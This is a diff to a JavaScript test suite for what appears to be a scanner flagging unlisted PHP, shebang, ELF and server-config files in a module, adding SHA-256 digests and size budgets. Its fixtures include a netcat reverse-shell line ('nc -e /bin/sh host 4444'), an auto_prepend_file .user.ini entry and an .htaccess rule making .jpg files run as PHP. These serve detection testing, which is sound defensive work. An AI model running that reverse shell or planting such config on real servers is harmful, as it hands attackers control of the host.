@@ -117,18 +117,18 @@ describe('walkModule', () => {
       result = walk('core', m, { listed: LISTED });
     });
 
-    it('reports the unlisted code, sorted by path, each with its reason', () => {
+    it('reports the unlisted code, sorted by path, each with its reason and its content digest', () => {
       assert.deepEqual(result.code, [
-        { path: 'assets/less/cache/x.php', reason: REASON.php },
-        { path: 'bin/backdoor', reason: REASON.shebang },
-        { path: 'bin/helper', reason: REASON.shebang },
-        { path: 'bin/tool', reason: REASON.elf },
-        { path: 'images/photo.php.jpg', reason: REASON.phpInner },
-        { path: 'node_modules/evil/x.php', reason: REASON.php },
-        { path: 'node_modules/pkg/.user.ini', reason: REASON.userIni },
-        { path: 'shell.php', reason: REASON.php },
-        { path: 'views/.htaccess', reason: REASON.htaccess },
-        { path: 'views/.user.ini', reason: REASON.userIni },
+        { path: 'assets/less/cache/x.php', reason: REASON.php, sha256: sha256(SHELL) },
+        { path: 'bin/backdoor', reason: REASON.shebang, sha256: sha256('#!/bin/sh\nnc -e /bin/sh host 4444\n') },
+        { path: 'bin/helper', reason: REASON.shebang, sha256: sha256('#!/bin/sh\n') },
+        { path: 'bin/tool', reason: REASON.elf, sha256: sha256(ELF) },
+        { path: 'images/photo.php.jpg', reason: REASON.phpInner, sha256: sha256(SHELL) },
+        { path: 'node_modules/evil/x.php', reason: REASON.php, sha256: sha256('<?php') },
+        { path: 'node_modules/pkg/.user.ini', reason: REASON.userIni, sha256: sha256('auto_prepend_file=/tmp/x') },
+        { path: 'shell.php', reason: REASON.php, sha256: sha256(SHELL) },
+        { path: 'views/.htaccess', reason: REASON.htaccess, sha256: sha256('AddType application/x-httpd-php .jpg') },
+        { path: 'views/.user.ini', reason: REASON.userIni, sha256: sha256('auto_prepend_file=/tmp/x') },
       ]);
     });
 
@@ -319,7 +319,7 @@ describe('walkModule', () => {
       assert.ok(result.otherSample.includes('entry.php'), 'another name for a listed file');
       assert.deepEqual(
         result.code.find((f) => f.path === 'runme'),
-        { path: 'runme', reason: REASON.shebang },
+        { path: 'runme', reason: REASON.shebang, sha256: sha256('#!/bin/sh\n') },
       );
       assert.ok(paths(result.code).includes('run.php'), "a PHP name for another module's text file");
     });
@@ -374,7 +374,7 @@ describe('walkModule', () => {
       assert.deepEqual(result.notWalked, [
         { path: 'escape', reason: 'symbolic link that cannot be followed: a symbolic link leads above the root' },
       ]);
-      assert.deepEqual(result.code, [{ path: 'abs/shell.php', reason: REASON.php }]);
+      assert.deepEqual(result.code, [{ path: 'abs/shell.php', reason: REASON.php, sha256: sha256(SHELL) }]);
       assert.deepEqual(result.links, [{ path: 'abs', target: join(root, 'srv/uploads'), outcome: 'walked' }]);
     });
   });
@@ -407,6 +407,36 @@ describe('walkModule', () => {
       assert.equal(result.links.length, 1);
       assert.equal(result.notWalked.length, 1);
       assert.equal(result.notWalked[0]?.reason, 'more than 1 links to directories: not followed');
+    });
+
+    it('gives code files their digests up to 1 MiB each and the module bound in all, and still fails them', async () => {
+      const big = Buffer.alloc(1024 * 1024 + 1, 0x61);
+      await put('digests/m/a.php', SHELL);
+      await put('digests/m/b-big.php', big);
+      await put('digests/m/c.php', '<?php echo 1;');
+      await put('digests/m/d.php', '<?php echo 2;');
+      const unbounded = walk('m', 'digests/m');
+      assert.deepEqual(
+        unbounded.code.map((f) => [f.path, f.sha256]),
+        [
+          ['a.php', sha256(SHELL)],
+          ['b-big.php', undefined],
+          ['c.php', sha256('<?php echo 1;')],
+          ['d.php', sha256('<?php echo 2;')],
+        ],
+      );
+      // A budget that the first two small files use up: the third small file has no digest.
+      const budget = Buffer.byteLength(SHELL) + Buffer.byteLength('<?php echo 1;');
+      const bounded = walk('m', 'digests/m', { limits: { codeDigestBytes: budget } });
+      assert.deepEqual(
+        bounded.code.map((f) => [f.path, f.sha256 !== undefined]),
+        [
+          ['a.php', true],
+          ['b-big.php', false],
+          ['c.php', true],
+          ['d.php', false],
+        ],
+      );
     });
 
     it('keeps at most the bound of findings in a list', async () => {
@@ -455,7 +485,12 @@ describe('walkModule', () => {
     it('reports a name that is not UTF-8 as pbxsig reads module.sig (a byte not UTF-8 is U+EF00 + byte), with the exact bytes in hex', () => {
       assert.deepEqual(
         result.code.find((f) => f.path === 'sh\uefff.php'),
-        { path: 'sh\uefff.php', reason: REASON.php, pathHex: Buffer.from('sh\xff.php', 'latin1').toString('hex') },
+        {
+          path: 'sh\uefff.php',
+          reason: REASON.php,
+          pathHex: Buffer.from('sh\xff.php', 'latin1').toString('hex'),
+          sha256: sha256(SHELL),
+        },
       );
     });
 
@@ -463,11 +498,17 @@ describe('walkModule', () => {
       assert.deepEqual(
         result.code.filter((f) => f.path.startsWith('d\ueffe/')),
         [
-          { path: 'd\ueffe/run', reason: REASON.shebang, pathHex: Buffer.from('d\xfe/run', 'latin1').toString('hex') },
+          {
+            path: 'd\ueffe/run',
+            reason: REASON.shebang,
+            pathHex: Buffer.from('d\xfe/run', 'latin1').toString('hex'),
+            sha256: sha256('#!/bin/sh\n'),
+          },
           {
             path: 'd\ueffe/shell.php',
             reason: REASON.php,
             pathHex: Buffer.from('d\xfe/shell.php', 'latin1').toString('hex'),
+            sha256: sha256(SHELL),
           },
         ],
       );
@@ -481,7 +522,7 @@ describe('walkModule', () => {
       for (const path of ['new\nline.php', 'esc\u001b[31m.php', 'real\uFFFD.php']) {
         assert.deepEqual(
           result.code.find((f) => f.path === path),
-          { path, reason: REASON.php },
+          { path, reason: REASON.php, sha256: sha256(SHELL) },
           JSON.stringify(path),
         );
       }
